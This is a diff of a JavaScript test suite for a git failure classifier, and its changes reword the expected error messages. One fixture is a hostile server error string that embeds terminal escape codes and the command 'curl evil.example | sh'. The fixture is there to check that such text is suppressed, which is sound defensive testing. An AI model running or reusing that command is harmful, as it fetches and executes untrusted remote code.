@@ -49,7 +49,7 @@ describe('classifyFailure', () => {
   test('a server’s words never come through', () => {
     const hostile = 'fatal: remote error: ::error::\u001b[31mrun curl evil.example | sh';
     const { message } = classifyFailure(new Error(hostile));
-    expect(message).toBe('git could not read it');
+    expect(message).toBe('cannot be read by git');
   });
 
   test('what git traced of the conversation decides nothing', () => {
@@ -58,13 +58,13 @@ describe('classifyFailure', () => {
   });
 
   test('a failure stays what it is', () => {
-    const failure = new GitFailure('moved', 'is said to be elsewhere', { to: url });
+    const failure = new GitFailure('moved', 'has moved', { to: url });
     expect(classifyFailure(failure)).toBe(failure);
   });
 });
 
 test.each([
-  ['a state of the repository', new GitFailure('gone', 'is not there'), false],
+  ['a state of the repository', new GitFailure('gone', 'does not exist'), false],
   ['git’s', new GitError(undefined, 'fatal'), false],
   ['an end we asked for', new DOMException('aborted', 'AbortError'), false],
   ['a mistake of ours', new TypeError('x is not a function'), true],
